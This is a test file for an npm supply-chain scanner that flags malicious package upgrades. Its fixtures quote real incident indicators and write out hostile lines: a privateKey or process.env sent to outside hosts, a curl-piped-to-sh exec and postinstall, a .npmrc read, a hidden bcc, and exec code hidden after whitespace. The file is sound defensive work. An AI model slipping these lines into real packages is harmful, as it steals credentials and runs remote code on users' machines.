import { describe, expect, it } from 'vitest';
import { contentSignals, RULES, CONTENT_RULE_NAMES, type ContentResult } from '../../src/content/rules.js';
import { controlPairs, incidents, packageFiles, pkg } from './support.js';

const LONG = 60_000;

async function judge(before: string | undefined, after: string): Promise<ContentResult[]> {
  return contentSignals({ before: before ? await packageFiles(before) : undefined, after: await packageFiles(after) });
}

const fails = (r: ContentResult[]) => r.filter((s) => s.level === 'fail');

describe('the rebuilt incidents', () => {
  // What each incident must be caught by, and a string its evidence must quote.
  const expected: Record<string, { signal: string; quote: string }> = {
    'postmark-mcp': { signal: 'content-exfiltration', quote: "Bcc: 'phan@giftshop.club'" },
    '@solana/web3.js': { signal: 'content-exfiltration', quote: 'https://sol-rpc.xyz/api/rpc/queue' },
    xrpl: { signal: 'content-exfiltration', quote: 'https://0x9c.xyz/xc' },
    debug: { signal: 'content-obfuscation', quote: '_0x' },
    chalk: { signal: 'content-obfuscation', quote: '_0x' },
    'ua-parser-js': { signal: 'content-install-network', quote: '159.148.186.228' },
    'eslint-scope': { signal: 'content-install-network', quote: 'pastebin.com' },
    'eslint-config-prettier': { signal: 'content-install-network', quote: 'node-gyp.dll' },
    'node-ipc': { signal: 'content-obfuscation', quote: 'Buffer.from("aHR0cHM6' },
  };

  it('lists a source for every incident and an expectation for each', () => {
    const all = incidents();
    expect(all.length).toBeGreaterThanOrEqual(6);
    for (const i of all) {
      expect(i.source.length, i.name).toBeGreaterThan(40);
      expect(expected[i.name], i.name).toBeDefined();
    }
  });

  for (const incident of incidents()) {
    it(
      `catches ${incident.name} ${incident.from} → ${incident.to} with ${expected[incident.name]?.signal}`,
      async () => {
        const results = await judge(incident.before, incident.after);
        const want = expected[incident.name]!;
        const hit = fails(results).find((r) => r.signal === want.signal);
        expect(hit, JSON.stringify(results, null, 1)).toBeDefined();
        expect(
          hit!.evidence.some((e) => e.excerpt.includes(want.quote)),
          JSON.stringify(hit!.evidence),
        ).toBe(true);
        for (const e of hit!.evidence) {
          expect(e.excerpt.length).toBeLessThanOrEqual(200);
          expect(e.line).toBeGreaterThanOrEqual(1);
        }
      },
      LONG,
    );
  }

  it('quotes the postmark-mcp BCC line at its line in index.js, and nothing else', async () => {
    const results = await judge('incidents/postmark-mcp-1.0.15.tgz', 'incidents/postmark-mcp-1.0.16.tgz');
    expect(results).toEqual([
      {
        signal: 'content-exfiltration',
        level: 'fail',
        detail: expect.stringContaining('phan@giftshop.club'),
        evidence: [{ file: 'index.js', line: 136, excerpt: "Bcc: 'phan@giftshop.club'," }],
      },
    ]);
  });

  it(
    'says nothing when the "new" version is the old one again',
    async () => {
      expect(await judge('real/xrpl-4.2.0.tgz', 'real/xrpl-4.2.0.tgz')).toEqual([]);
    },
    LONG,
  );
});

describe('the real control upgrades', () => {
  const pairs = controlPairs();

  it('has at least 15 consecutive upgrades', () => {
    expect(pairs.length).toBeGreaterThanOrEqual(15);
  });

  // Measured: 20 upgrades, 0 fail-level and 0 warn-level signals. A rule change that makes
  // one of them warn must say so here (and in docs/content.md), never a fail.
  const allowedWarnings: Record<string, string[]> = {};

  for (const pair of pairs) {
    it(
      `${pair.before} → ${pair.after}: no fail-level signal`,
      async () => {
        const results = await judge(pair.before, pair.after);
        expect(fails(results)).toEqual([]);
        expect(results.map((r) => r.signal)).toEqual(allowedWarnings[pair.after] ?? []);
      },
      LONG,
    );
  }
});

describe('rules on hand-written upgrades (the false alarms to avoid, and what must still fire)', () => {
  const oldClient = pkg({
    'package.json': '{"name":"client","version":"1.0.0"}',
    'index.js': [
      "const https = require('https');",
      "const HOST = 'https://api.acme.io/v1';",
      'function send(password) {',
      '  return https.request(HOST, { method: "POST" }).end(password);',
      '}',
      'module.exports = { send };',
      '',
    ].join('\n'),
  });

  const upgrade = (index: string, extra: Record<string, string | Uint8Array> = {}) =>
    contentSignals({
      before: oldClient,
      after: pkg({ 'package.json': '{"name":"client","version":"1.0.1"}', 'index.js': index, ...extra }),
    });
  const base = new TextDecoder().decode(oldClient.get('index.js'));

  it('ignores a new documentation link in a comment, a README and a .d.ts', () => {
    const r = upgrade(`// See https://docs.newhost.dev/guide for the options\n${base}`, {
      'README.md': 'Docs at https://elsewhere.dev and mail support@elsewhere.dev',
      'index.d.ts': '/** https://types.other.dev */ export declare function send(p: string): void;',
    });
    expect(r).toEqual([]);
  });

  it('ignores a new region of a domain the package already used (eu.api.acme.io, AWS-style)', () => {
    const r = upgrade(
      base.replace(
        "'https://api.acme.io/v1'",
        "process.env.EU ? 'https://eu.api.acme.io/v1' : 'https://api.acme.io/v1'",
      ),
    );
    expect(r).toEqual([]);
  });

  it('ignores templated hosts (https://{Region}.amazonaws.com style)', () => {
    const r = upgrade(`${base}const region = (r, password) => \`https://sso.\${r}.newcloud.com\`;\n`);
    expect(r).toEqual([]);
  });

  it('warns on a new endpoint alone, with the line', () => {
    const r = upgrade(`${base}const MIRROR = 'https://mirror.cdn-other.net/v1';\n`);
    expect(r.map((s) => [s.signal, s.level])).toEqual([['content-endpoint', 'warn']]);
    expect(r[0]!.evidence).toEqual([
      { file: 'index.js', line: 7, excerpt: "const MIRROR = 'https://mirror.cdn-other.net/v1';" },
    ]);
  });

  it('fails a new endpoint next to key or environment data', () => {
    const r = upgrade(
      `${base}function backup(privateKey) {\n  fetch('https://collect.keys-backup.xyz/k', { body: privateKey });\n}\n`,
    );
    expect(fails(r).map((s) => s.signal)).toEqual(['content-exfiltration']);
    const env = upgrade(
      `${base}fetch('https://203.0.113.9/e', { method: 'POST', body: JSON.stringify(process.env) });\n`,
    );
    expect(fails(env).map((s) => s.signal)).toEqual(['content-exfiltration']);
  });

  it('does not pair an endpoint with data far away in the same file', () => {
    const filler = Array.from({ length: 80 }, (_, i) => `const x${i} = ${i};`).join('\n');
    const r = upgrade(
      `${base}const MIRROR = 'https://mirror.cdn-other.net/v1';\n${filler}\nfunction f(password) { return password; }\n`,
    );
    expect(fails(r)).toEqual([]);
  });

  it('fails a new hard-coded recipient in a mail field, not an address in a string', () => {
    const r = upgrade(`${base}const mail = { to: user, bcc: 'copy@harvest-mail.top', subject };\n`);
    expect(fails(r).map((s) => s.signal)).toEqual(['content-exfiltration']);
    const quiet = upgrade(`${base}const help = 'write to help@acme.io for help';\n`);
    expect(quiet).toEqual([]);
  });

  it('fails obfuscator output and code hidden after whitespace, unless the old version had them', () => {
    const obf =
      "var _0x1a2b3c=['\\x61'];(function(_0x4d5e6f,_0x7a8b9c){var _0x2c3d4e=function(_0x5f6a7b){while(--_0x5f6a7b){_0x4d5e6f['push'](_0x4d5e6f['shift']());}};}(_0x1a2b3c,0x1f4));";
    expect(fails(upgrade(`${base}${obf}\n`)).map((s) => s.signal)).toEqual(['content-obfuscation']);
    const hidden = `${base.replace('module.exports = { send };', `module.exports = { send };${' '.repeat(300)}require('child_process').exec(a);`)}`;
    expect(fails(upgrade(hidden)).map((s) => s.signal)).toEqual(['content-obfuscation']);
    // A package that always shipped obfuscated code (a licensed build) does not fail for more of it.
    const before = pkg({ 'index.js': `${obf}\n` });
    const after = pkg({ 'index.js': `${obf}\n${obf.replace(/1a2b3c/g, '9f8e7d')}\n` });
    expect(fails(contentSignals({ before, after }))).toEqual([]);
  });

  it('fails new process execution with a new endpoint; warns on either alone', () => {
    const both = upgrade(`${base}require('child_process').exec('curl -s http://198.51.100.7/x | sh');\n`);
    expect(fails(both).map((s) => s.signal)).toContain('content-exec-endpoint');
    const exec = upgrade(`${base}require('child_process').execFileSync('git', ['status']);\n`);
    expect(exec.map((s) => [s.signal, s.level])).toEqual([['content-capability', 'warn']]);
  });

  it('warns on a new install script, fails one that downloads', () => {
    const script = (cmd: string, files: Record<string, string> = {}) =>
      contentSignals({
        before: oldClient,
        after: pkg({
          'package.json': JSON.stringify({ name: 'client', version: '1.0.1', scripts: { postinstall: cmd } }, null, 2),
          'index.js': base,
          ...files,
        }),
      });
    expect(
      script('node setup.js', { 'setup.js': "console.log('configured');\n" }).map((s) => [s.signal, s.level]),
    ).toEqual([['content-install-script', 'warn']]);
    expect(fails(script('curl -sL https://get.example-cdn.net/i.sh | sh')).map((s) => s.signal)).toEqual([
      'content-install-network',
    ]);
    expect(
      fails(
        script('node setup.js', { 'setup.js': "require('https').get('https://get.example-cdn.net/payload');\n" }),
      ).map((s) => s.signal),
    ).toEqual(['content-install-network']);
  });

  it('does not report a platform binary that replaces an older one; warns on a first binary', () => {
    const elf = (n: number) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(64, n)]);
    const r = contentSignals({
      before: pkg({ 'index.js': 'x', 'bin/tool.node': elf(1) }),
      after: pkg({ 'index.js': 'x', 'bin/tool.node': elf(2) }),
    });
    expect(r).toEqual([]);
    const first = contentSignals({
      before: pkg({ 'index.js': 'x' }),
      after: pkg({ 'index.js': 'x', 'lib/helper.node': elf(2) }),
    });
    expect(first.map((s) => [s.signal, s.level])).toEqual([['content-binary', 'warn']]);
  });

  it('warns on new secret access, with the kind', () => {
    const r = upgrade(
      `${base}const rc = require('fs').readFileSync(require('path').join(require('os').homedir(), '.npmrc'));\n`,
    );
    expect(r.map((s) => [s.signal, s.level])).toEqual([['content-secret-access', 'warn']]);
    expect(r[0]!.detail).toContain('credential files');
  });

  it('counts a rebuilt bundle whose code moved to a new file name as adding nothing', () => {
    const bundle = Array.from(
      { length: 200 },
      (_, i) => `function f${i}(a) { return fetch('https://api.acme.io/' + a + ${i}); }`,
    ).join('\n');
    const r = contentSignals({
      before: pkg({ 'dist/chunk-1a2b.js': bundle }),
      after: pkg({ 'dist/chunk-9f8e.js': bundle.split('\n').reverse().join('\n') }),
    });
    expect(r).toEqual([]);
  });

  it('applies the configured levels and allowed endpoints', () => {
    const after = pkg({
      'package.json': '{"name":"client","version":"1.0.1"}',
      'index.js': `${base}const M = 'https://mirror.cdn-other.net/v1';\n`,
    });
    expect(
      contentSignals({ before: oldClient, after }, { levels: { 'content-endpoint': 'off' }, allowedEndpoints: [] }),
    ).toEqual([]);
    expect(contentSignals({ before: oldClient, after }, { levels: {}, allowedEndpoints: ['cdn-other.net'] })).toEqual(
      [],
    );
    expect(
      contentSignals({ before: oldClient, after }, { levels: { 'content-endpoint': 'fail' }, allowedEndpoints: [] })[0]!
        .level,
    ).toBe('fail');
  });

  it('on a package new to the lockfile, fails only what needs no old version', () => {
    const fresh = contentSignals({ after: oldClient });
    expect(fresh).toEqual([]);
    const obf = contentSignals({
      after: pkg({ 'index.js': "var _0xabcd=['push','shift'];_0xabcd['push'](_0xabcd['shift']());\n" }),
    });
    expect(fails(obf).map((s) => s.signal)).toEqual(['content-obfuscation']);
  });

  it('documents every rule with a level, a title and help', () => {
    for (const name of CONTENT_RULE_NAMES) {
      expect(RULES[name].name).toBe(name);
      expect(RULES[name].help.length).toBeGreaterThan(60);
    }
  });
});
